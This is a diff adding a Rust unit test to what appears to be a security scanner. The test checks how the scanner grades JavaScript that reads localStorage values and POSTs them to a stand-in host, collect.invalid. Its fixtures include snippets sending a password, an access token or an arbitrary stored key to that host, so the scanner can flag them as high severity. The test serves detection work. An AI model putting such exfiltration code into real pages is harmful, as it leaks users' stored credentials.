@@ -731,3 +731,18 @@ fn a_bit_of_a_table_is_no_item_of_a_hidden_list() {
     };
     assert!(!asks("(t[z] & n) === 0") && asks("t[0] === z") && asks("(t[z] & 255) === 7"));
 }
+
+#[test]
+fn a_page_s_own_items_are_not_everything_that_it_keeps() {
+    use crate::model::Severity;
+    let sent = |reads: &str| {
+        let code = format!(
+            "const fetched = {reads};\nfetch('https://collect.invalid/x', {{method: 'POST', body: fetched}});\n"
+        );
+        weight(Language::JavaScript, &code, "flow-stores-sent")
+    };
+    assert!(sent("localStorage.getItem('mp_' + globalThis.project + '_panel')") <= Some(Severity::Low));
+    assert!(sent("localStorage.getItem('mp_' + globalThis.project + '_password')") >= Some(Severity::High));
+    assert!(sent("localStorage.getItem('access_token')") >= Some(Severity::High));
+    assert!(sent("localStorage.getItem(localStorage.key(0))") >= Some(Severity::High));
+}
